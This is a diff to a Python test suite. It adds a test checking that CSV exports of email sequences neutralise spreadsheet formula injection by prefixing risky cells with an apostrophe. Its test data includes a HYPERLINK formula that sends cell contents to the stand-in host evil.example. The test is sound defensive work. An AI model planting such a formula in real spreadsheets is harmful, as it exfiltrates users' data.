@@ -255,3 +255,26 @@ def test_a_parent_message_still_being_written_offers_no_export():
     message = parent_message(brief, "U1", Progress(posted=3), "some-id")
 
     assert all(b["type"] != "actions" for b in message.blocks)
+
+
+FORMULAS = ('=HYPERLINK("http://evil.example/?d="&A1,"Click")', "+1+2", "-2+3", "@SUM(A1)")
+
+
+@pytest.mark.parametrize("fmt", EXPORT_FORMATS, ids=lambda f: f.key)
+def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_neutralised_in_every_csv(fmt):
+    # OWASP's CSV Injection advice: a leading =, +, -, @, tab or CR is prefixed with '.
+    emails = [
+        {**email, "subject_a": formula, "subject_b": formula, "body": formula}
+        for email, formula in zip(sample_sequence(), FORMULAS * 2, strict=False)
+    ]
+    emails.append({**sample_sequence()[6], "body": "\tindented", "subject_a": "\rreturn"})
+
+    exported = export_sequence(fmt, emails, COMPANY_NAME).content
+
+    if fmt in CSV_FORMATS:
+        cells = [cell for row in csv.reader(io.StringIO(exported, newline="")) for cell in row]
+        assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
+        assert f"'{FORMULAS[0]}" in cells
+        assert "'-2+3" in cells  # the text itself is kept, only made inert
+    else:  # plain text and Markdown are read by people, not spreadsheets: unchanged
+        assert FORMULAS[0] in exported and f"'{FORMULAS[0]}" not in exported
